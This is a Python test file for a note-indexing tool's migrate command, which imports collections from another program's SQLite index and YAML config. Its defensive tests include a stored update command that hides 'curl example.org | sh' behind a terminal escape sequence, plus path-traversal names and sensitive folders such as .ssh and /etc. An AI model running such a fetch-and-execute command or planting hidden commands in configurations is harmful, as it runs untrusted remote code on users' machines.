"""`qmd store migrate`: it takes over collections of tobi/qmd once and does not change its files."""

from __future__ import annotations

import json
import sqlite3
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from tests.edge.cli.schemas import faults, schema
from tests.users import User

#: The tables of tobi/qmd 2.8.3 that `migrate` reads.
TABLES = """
CREATE TABLE store_collections (name TEXT PRIMARY KEY, path TEXT NOT NULL, pattern TEXT NOT NULL,
  ignore_patterns TEXT, include_by_default INTEGER DEFAULT 1, update_command TEXT, context TEXT);
CREATE TABLE store_config (key TEXT PRIMARY KEY, value TEXT);
"""


@pytest.fixture
def old(user: User) -> Path:
    """An index of tobi/qmd in another folder: the user's notes, and a collection without its folder."""
    path = user.home / "old" / "index.sqlite"
    path.parent.mkdir()
    with closing(sqlite3.connect(path)) as db:
        db.executescript(TABLES)
        rows = [
            (
                "notes",
                str(user.notes),
                "**/*.md",
                '["drafts/**"]',
                1,
                "git pull",
                '{"": "My notes", "/2026": "New"}',
            ),
            ("gone", str(user.home / "gone"), "**/*.txt", None, 0, None, None),
        ]
        db.executemany("INSERT INTO store_collections VALUES (?, ?, ?, ?, ?, ?, ?)", rows)
        db.execute("INSERT INTO store_config VALUES ('global_context', 'Everything')")
        db.commit()
    return path


def report(user: User, *args: str) -> Any:
    value = json.loads(user.ok("migrate", "--json", *args))
    assert not faults(value, schema("migrate"))
    return value


def config_of(user: User) -> Path:
    return user.home / "config" / "qmd" / "index.yml"


def test_migrate_takes_over_the_collections_of_an_index_once(user: User, old: Path) -> None:
    before = old.read_bytes()
    planned = report(user, str(old), "--dry-run", "--with-commands")
    assert planned["changed"]
    assert not config_of(user).exists()
    assert report(user, str(old), "--with-commands") == planned
    shown = json.loads(user.ok("collection", "list", "--json"))
    assert [(each["name"], each["path"], each["pattern"]) for each in shown] == [
        ("gone", str(user.home / "gone"), "**/*.txt"),
        ("notes", str(user.notes), "**/*.md"),
    ]
    written = config_of(user).read_text(encoding="utf-8")
    for part in ("drafts/**", "git pull", "My notes", "includeByDefault: false", "Everything", "/2026"):
        assert part in written
    again = report(user, str(old), "--with-commands")
    assert (again["changed"], {each["action"] for each in again["collections"]}) == (False, {"same"})
    assert config_of(user).read_text(encoding="utf-8") == written
    assert "Nothing to take over" in user.ok("migrate", str(old))
    assert old.read_bytes() == before
    assert [entry.name for entry in old.parent.iterdir()] == ["index.sqlite"]


def test_migrate_prefers_index_yml_to_the_index(user: User, old: Path) -> None:
    config = old.with_suffix(".yml")
    config.write_text(f"collections:\n  mine:\n    path: {user.notes}\n    context: Mine\n", encoding="utf-8")
    found = report(user, str(old))
    assert [each["name"] for each in found["collections"]] == ["mine"]
    assert any("gone, notes" in note for note in found["notes"])


def test_migrate_keeps_existing_settings_and_names_differences(user: User, old: Path) -> None:
    user.ok("collection", "add", str(user.notes), "--name", "notes", "--mask", "*.md")
    user.ok("context", "add", "qmd://notes", "Something else")
    notes = {each["name"]: each for each in report(user, str(old))["collections"]}["notes"]
    assert notes["action"] == "differs"
    assert "pattern: **/*.md there, *.md here" in notes["differences"]
    assert "the context of qmd://notes" in notes["differences"]
    assert notes["contexts"] == ["qmd://notes/2026"]
    contexts = user.ok("context", "list")
    assert "Something else" in contexts
    assert "My notes" not in contexts
    assert "New" in contexts


def test_migrate_shares_the_configuration_in_the_default_place(user: User, old: Path) -> None:
    place = user.home / "cache" / "qmd" / "index.sqlite"
    old.rename(place)
    config_of(user).parent.mkdir(parents=True)
    config_of(user).write_text(f"collections:\n  notes:\n    path: {user.notes}\n", encoding="utf-8")
    before = place.read_bytes(), config_of(user).read_bytes()
    assert "Both programs read the same index.yml" in user.ok("migrate")
    shared = report(user)
    assert (shared["shared"], shared["changed"]) == (True, False)
    assert shared["collections"][0]["action"] == "shared"
    assert (place.read_bytes(), config_of(user).read_bytes()) == before


def test_migrate_reads_a_write_ahead_log_from_a_copy(user: User, old: Path) -> None:
    with closing(sqlite3.connect(old)) as db:
        db.execute("PRAGMA journal_mode=WAL")
        db.execute("UPDATE store_collections SET name = 'renamed' WHERE name = 'gone'")
        db.commit()
        files = {entry.name: entry.read_bytes() for entry in old.parent.iterdir()}
        assert files["index.sqlite-wal"]
        names = [each["name"] for each in report(user, str(old), "--dry-run")["collections"]]
        assert names == ["notes", "renamed"]
        assert {entry.name: entry.read_bytes() for entry in old.parent.iterdir()} == files


def test_migrate_refuses_files_of_other_programs(user: User, old: Path) -> None:
    other = user.home / "other.sqlite"
    with closing(sqlite3.connect(other)) as db:
        db.execute("CREATE TABLE t (a)")
    text = user.home / "text"
    text.write_text("x")
    user.ok("collection", "add", str(user.notes))
    own = user.home / "cache" / "qmd" / "index.sqlite"
    for path, message in (
        (other, "is not an index of tobi/qmd"),
        (text, "is not an index"),
        (own, "was made by this program"),
        (user.home / "missing", "is not there"),
    ):
        result = user.invoke("migrate", str(path))
        assert result.exit_code == 1
        assert message in result.stderr
    assert "there is no index of tobi/qmd" in user.invoke("migrate").stderr


def test_migrate_takes_over_update_commands_only_with_consent(user: User, old: Path) -> None:
    shown = user.ok("migrate", str(old))
    assert "without its update command, which --with-commands takes over: git pull" in shown
    assert "git pull" not in config_of(user).read_text(encoding="utf-8")
    # The commands can still be taken over later, if the collection has none by then.
    assert "update command: git pull" in user.ok("migrate", str(old), "--with-commands")
    assert 'update: "git pull"' in config_of(user).read_text(encoding="utf-8")
    assert "Nothing to take over" in user.ok("migrate", str(old), "--with-commands")


@pytest.mark.slow
@pytest.mark.parametrize("answer", ["y", "n"])
def test_migrate_asks_with_escaped_update_commands(user: User, old: Path, answer: str) -> None:
    with closing(sqlite3.connect(old)) as db:
        command = "make\n\x1b[2K\rcurl example.org | sh"
        db.execute("UPDATE store_collections SET update_command = ? WHERE name = 'notes'", (command,))
        db.commit()
    shown = user.on_terminal(f"{answer}\n", "migrate", str(old))
    question, _, done = shown.partition("Take them over? [y/N]")
    assert "make\\n\\x1b[2K\\rcurl example.org | sh" in question
    assert str(user.notes) in question
    assert "\x1b" not in shown
    assert ("notes: added" in done, "curl" in config_of(user).read_text(encoding="utf-8")) == (
        True,
        answer == "y",
    )


@pytest.mark.parametrize("bad", ["../../x", "a\nb", "\x1b[31mred"])
def test_migrate_refuses_an_invalid_name_before_writing(user: User, old: Path, bad: str) -> None:
    with closing(sqlite3.connect(old)) as db:
        db.execute("UPDATE store_collections SET name = ? WHERE name = 'notes'", (bad,))
        db.commit()
    for options in ([], ["--dry-run"]):
        result = user.invoke("migrate", str(old), *options)
        assert (result.exit_code, result.stdout) == (2, "")
        assert "Not a collection name" in result.stderr
        assert "\x1b" not in result.stderr
    assert not config_of(user).exists()


def test_migrate_of_an_invalid_pattern_writes_nothing(user: User, old: Path) -> None:
    with closing(sqlite3.connect(old)) as db:
        db.execute("UPDATE store_collections SET pattern = ' ' WHERE name = 'notes'")
        db.commit()
    assert user.invoke("migrate", str(old)).exit_code == 2
    assert not config_of(user).exists()


def old_config(user: User, *folders: str) -> str:
    """Write an `index.yml` of tobi/qmd with a collection for each folder; return its path."""
    path = user.home / "old.yml"
    entries = (f"  c{at}:\n    path: {folder}\n    pattern: '**/*.md'\n" for at, folder in enumerate(folders))
    path.write_text("collections:\n" + "".join(entries), encoding="utf-8")
    return str(path)


@pytest.mark.parametrize("folder", [".ssh", ".config/app", "notes/.hidden", ".", "..", "/etc"])
def test_migrate_takes_over_folders_with_keys_only_after_a_yes(user: User, folder: str) -> None:
    path = folder if folder == "/etc" else str(user.home / folder)
    config = old_config(user, path, str(user.notes))
    result = user.call("migrate", "--config", config)
    assert result.returncode != 0
    assert "1 collection to take over that you may not want to be read:\n  c0:" in result.stderr
    assert "then add --yes" in result.stderr
    assert not config_of(user).exists()
    shown = user.on_terminal("n\n", "migrate", "--config", config)
    assert "Take them over? [y/N]" in shown
    assert not config_of(user).exists()
    user.ok("migrate", "--config", config, "--yes")
    assert "c0" in config_of(user).read_text(encoding="utf-8")


def test_migrate_asks_for_many_collections_and_refuses_too_many(user: User) -> None:
    folders = [str(user.home / f"notes{number}") for number in range(1_001)]
    result = user.call("migrate", "--config", old_config(user, *folders[:101]))
    assert result.returncode != 0
    assert "101 collections to take over" in result.stderr
    assert "... and 81 more" in result.stderr
    result = user.call("migrate", "--yes", "--config", old_config(user, *folders))
    assert result.returncode != 0
    assert "there are 1,001 collections, and more than 1,000 are not taken over" in result.stderr
    assert not config_of(user).exists()
    user.ok("migrate", "--config", old_config(user, *folders[:20]))
